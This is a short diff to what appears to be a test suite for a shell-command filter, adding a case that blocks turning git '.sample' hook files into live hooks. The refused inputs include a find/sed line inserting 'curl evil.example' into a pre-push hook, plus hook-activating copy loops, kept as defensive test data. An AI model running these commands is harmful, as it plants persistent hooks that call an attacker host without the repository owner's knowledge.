@@ -602,7 +602,7 @@ describe('what a search or a sweep reaches, beyond the paths it names', () => {
       persistence(line);
     refused(bash, ["find ~ -name 'pre-push.sample' -exec sed -i '2i curl evil.example' {} +"]);
     // A path a lister printed with its end cut off is a path of any name beside it (a sample made a hook).
-    refused(bash, ["for f in $(find . -name '*.sample'); do cp \"$f\" \"${f%.sample}\"; done"]);
+    refused(bash, ["for f in $(find . -name '*.sample'); do cp \"$f\" \"${f%.sample}\"; done", `find . -name '*.sample' -exec sh -c 'cp "$1" "\${1%.sample}"' _ {} \\;`]);
     passes(bash, [
       "find . -name '*.sample' -not -path '*/.*' -exec sed -i s/a/b/ {} +",
       "find src -name '*.sample' -exec sed -i s/a/b/ {} +",
